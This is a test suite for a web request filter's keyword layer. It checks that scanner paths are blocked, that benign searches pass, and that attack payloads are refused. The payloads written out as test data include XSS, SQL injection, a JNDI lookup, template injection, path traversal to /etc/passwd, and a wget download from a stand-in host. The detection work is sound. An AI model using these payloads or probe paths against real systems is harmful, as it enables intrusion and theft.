import { makeClient } from '../../core/client/client';
import { canonicalPath } from '../../core/path/canonical-path';
import { RequestContext } from '../../core/request-context';
import { UNROUTED } from '../../core/route';
import { Verdict } from '../../core/verdict';
import { KeywordsLayer } from './keywords.layer';
import { KeywordsOptions, keywordsOptions } from './keywords.options';

const ROUTE_WORDS = new Set(['products', 'search', 'api', 'users']);

function inspect(
  target: string,
  routed = false,
  options: Partial<KeywordsOptions> = {},
  matched = routed,
): Verdict {
  const layer = new KeywordsLayer(keywordsOptions(options, 'layers.keywords'), () => ROUTE_WORDS);
  const context: RequestContext = {
    now: 0,
    id: 'r1',
    client: makeClient('203.0.113.7', () => false),
    method: 'GET',
    httpVersion: '1.1',
    target: canonicalPath(target),
    routerPath: target,
    routerHost: undefined,
    headers: {},
    rawHeaders: [],
    route: { ...UNROUTED, routed, matched },
    rule: null,
    exempt: 0,
    ran: 0,
    postponed: 0,
    observed: 0,
    suspicion: 0,
    handler: null,
    authenticated: false,
    answeredAt: null,
    ban: null,
    denial: null,
  };
  return layer.inspect(context);
}

const search = (text: string) => `/search?q=${encodeURIComponent(text).replaceAll('%20', '+')}&page=2`;

describe('KeywordsLayer on paths that no route serves', () => {
  it.each([
    ['/.aws/config', 'dotfile'],
    ['/api/.env.local', 'dotfile'],
    ['/shop/index.php', 'script'],
    ['/index.php/news', 'script'],
    ['/upload/x.php.png', 'script'],
    ['/old/login.asp~', 'script'],
    ['/wp-content/themes/x/style.php.css', 'script'],
    ['/wp-content/plugins/revslider/x.png', 'cms'],
    ['/wp-content/plugins/x/readme.txt', 'cms'],
    ['/remote/login', 'appliance'],
    ['/phpMyAdmin-5.1/', 'admin-tool'],
    ['/admin_area2', 'admin-guess'],
    ['/actuator/mappings', 'diagnostics'],
    ['/manager/html', 'diagnostics'],
    ['/cgi-bin/status', 'appliance'],
    ['/database.sql.gz', 'backup'],
    ['/www-backup.tar.gz', 'backup'],
    ['/settings.json.old', 'backup'],
    ['/ssl/server.key', 'secret-file'],
    ['/docker-compose.prod.yml', 'secret-file'],
    ['/swagger-ui/index.html', 'api-docs'],
    ['/graphql?query={__schema{types{name}}}', 'api-docs'],
    ['/~root/', 'foreign-file'],
    ['/images/%2e%2e/x', 'traversal'],
    ['/images/..%5cx', 'traversal'],
    ['/a%00.jpg', 'traversal'],
    ['/%252525252e/x', 'traversal'],
    ['/view?file=../../x.txt', 'traversal'],
  ])('refuses %s as %s', (target, name) => {
    expect(inspect(target)).toEqual({
      kind: 'deny',
      status: 403,
      points: 34,
      code: 'keywords.scanner-path',
      detail: expect.stringMatching(new RegExp(`^${name}: `)),
    });
  });

  it.each(['/hack', '/exploit.js', '/exploits/db', '/Shell', '/x/conflg'])(
    'refuses the word in %s',
    (target) => {
      expect(inspect(target)).toMatchObject({ kind: 'deny', code: 'keywords.word', points: 34 });
    },
  );

  it.each([
    '/life-hacks/',
    '/attack-on-titan',
    '/devil-may-cry/',
    '/blog/how-to-exec-a-shell/',
    '/wp-hosting-for-shops',
    '/wp-content/uploads/2019/04/cup.jpg',
    '/blog/wp-content/themes/x/style.css',
    '/.well-known/security.txt',
    '/photos/.thumb_1.jpg',
    '/blog/a-very-long-title...',
    '/blog/2024/release-1.0',
    '/blog/what-is-asp.net',
    '/downloads/driver-1.2.zip',
    '/slides/talk.key',
    '/admin',
    '/admin/users',
    '/administration',
    '/config.json',
    '/browserconfig.xml',
    '/autodiscover/autodiscover.xml',
    '/articles/../images/a.png',
    '/wiki/%D0%9C%D0%B8%D1%80_(%D0%B7%D0%BD%D0%B0%D0%BA)',
    '/{{item.url}}',
    '/$%7Bname%7D',
    '/javascript:history.back()',
  ])('lets %s become an ordinary 404', (target) => {
    expect(inspect(target).kind).toBe('pass');
  });

  it('takes a word below a segment of the application for a page that moved', () => {
    expect(inspect('/products/shell').kind).toBe('pass');
    expect(inspect('/productsx/shell').kind).toBe('deny');
  });

  it('refuses only what can be no page where a catch-all answers', () => {
    const answered = (path: string) => inspect(path, false, {}, true).kind;
    for (const path of ['/.env', '/wp-login.php', '/backup.sql', '/../etc/passwd', '/.git/config'])
      expect([path, answered(path)]).toEqual([path, 'deny']);
    for (const path of ['/jenkins', '/swagger', '/admin-panel', '/grafana/boards', '/exploit', '/wp-admin'])
      expect([path, answered(path)]).toEqual([path, 'pass']);
  });

  it('never refuses the words of routed paths', () => {
    expect(inspect('/solr/core').kind).toBe('deny');
    const layer = new KeywordsLayer(new KeywordsOptions(), () => new Set(['solr']));
    expect(
      layer.inspect({ target: canonicalPath('/solr/core'), route: UNROUTED } as RequestContext).kind,
    ).toBe('pass');
  });

  it('passes extensions that the application serves, and allowed keywords', () => {
    expect(inspect('/shop/index.php', false, { servedExtensions: ['.php'] }).kind).toBe('pass');
    expect(inspect('/wp-login.php', false, { servedExtensions: ['.php'] }).kind).toBe('deny');
    expect(inspect('/shell', false, { allowedKeywords: ['Shell'] }).kind).toBe('pass');
    expect(inspect('/solr/core', false, { exemptKeywords: ['solr'] }).kind).toBe('pass');
    expect(inspect('/db.sqlite', false, { allowedKeywords: ['.sqlite'] }).kind).toBe('pass');
  });

  it('follows the static keywords of the options', () => {
    expect(inspect('/x/mine.abc').kind).toBe('pass');
    expect(inspect('/x/mine.abc', false, { staticKeywords: ['.abc'] }).kind).toBe('deny');
    expect(inspect('/x/honey', false, { staticKeywords: ['honey'] }).kind).toBe('deny');
    expect(inspect('/zz-top.txt', false, { staticKeywords: ['zz-'] }).kind).toBe('deny');
  });
});

describe('KeywordsLayer on payloads', () => {
  it.each([
    ["<script>alert('1')</script>", 'script-tag'],
    ['"><img src=x onerror=alert(1)>', 'event-handler'],
    ['<a href="javascript:fetch(1)">', 'script-url'],
    ['1 union select name from users', 'sql-union'],
    ["' UNION/**/SELECT 1,2,3--", 'sql-union'],
    ["' OR 1=1--", 'sql-tautology'],
    ["x' and 'a'='a", 'sql-tautology'],
    ['5;drop table users', 'sql-stacked'],
    ["1' and sleep(5)--", 'sql-probe'],
    ["admin'--", 'sql-comment'],
    ['${jndi:ldap://x.example/a}', 'jndi-lookup'],
    ['${${lower:j}ndi:x}', 'jndi-lookup'],
    ['{{7*7}}', 'template-injection'],
    ["{{''.__class__.__mro__}}", 'template-injection'],
    ['../../etc/passwd', 'traversal'],
    ['..\\..\\windows\\win.ini', 'traversal'],
    ['|cat /etc/hosts', 'shell-command'],
    [';wget http://x.example/a.sh', 'shell-command'],
    ['<!DOCTYPE a [<!ENTITY b SYSTEM "c">]>', 'xml-entity'],
    ['a\r\nSet-Cookie: b=c', 'header-injection'],
  ])('refuses %s as %s, routed and not', (text, kind) => {
    for (const routed of [true, false]) {
      expect(inspect(search(text), routed)).toEqual({
        kind: 'deny',
        status: 403,
        points: routed ? 34 : 100,
        code: 'keywords.payload',
        detail: expect.stringMatching(new RegExp(`^${kind}: `)),
      });
    }
  });

  it('finds payloads through three encodings, in full-width letters, and in the path', () => {
    const thrice = encodeURIComponent(encodeURIComponent(encodeURIComponent('<script>x()</script>')));
    expect(inspect(`/search?q=${thrice}`, true).kind).toBe('deny');
    expect(inspect(search('\uff1cscript\uff1ex()'), true).kind).toBe('deny');
    expect(inspect('/${jndi:ldap://x.example/a}')).toMatchObject({ code: 'keywords.payload', points: 100 });
    expect(inspect('/../../etc/passwd')).toMatchObject({ code: 'keywords.payload', points: 100 });
  });

  it.each([
    'union select committee minutes',
    "O'Reilly and Sons",
    "rock 'n' roll or 'blues'",
    'how to drop table in mysql',
    'SELECT name FROM users WHERE id=1 and x=2',
    'what does <script> do',
    'the <script> tag explained',
    'if (a<b && c>d) return 1;',
    '/etc/passwd permissions',
    '../ in links',
    'cats;dogs;birds',
    'name|id|type',
    "project = 'A' and status = 'Done'",
    "name eq 'x' or name eq 'y'",
    '{{name}} and ${name}',
    "{{ $t('cart.title') }}",
    'javascript: how to call (fn)',
    'git log --oneline; cat file',
    'run `ls` and `id`',
    "$('#id').on('click')",
    'sleep(5) in javascript',
    '50% off R&D',
    '日本語 「引用」 сумка',
    'SGVsbG8gd29ybGQ='.repeat(100),
  ])('lets people search for %s', (text) => {
    expect(inspect(search(text), true).kind).toBe('pass');
    expect(inspect(search(text), false).kind).toBe('pass');
  });

  it('asks for two indicators on a routed path', () => {
    expect(inspect('/search?cmd=ls;id', true).kind).toBe('pass');
    expect(inspect('/search?file=../a', true).kind).toBe('pass');
    expect(inspect('/search?file=../a&cmd=a;b', true)).toMatchObject({
      code: 'keywords.payload-indicators',
      detail: 'indicators: traversal, command',
      points: 34,
    });
    expect(inspect('/search?q=shell+hack+exploit+evil&r=../a', true).kind).toBe('deny');
    expect(inspect('/search?q=shell+hack+exploit+evil', true).kind).toBe('pass');
  });

  it('counts length that it does not examine against the request', () => {
    const long = `q=${'%41'.repeat(20_000)}`;
    expect(inspect(`/search?${long}`, true).kind).toBe('pass');
    expect(inspect(`/search?${long}&file=../a`, true).kind).toBe('deny');
    expect(inspect(`/other?${long}`)).toMatchObject({ detail: 'traversal: oversized' });
  });

  it('says at most 200 characters', () => {
    const verdict = inspect(`/${'.x'.repeat(400)}/.env`);
    expect(verdict.kind === 'deny' && verdict.detail?.length).toBeLessThanOrEqual(200);
  });
});
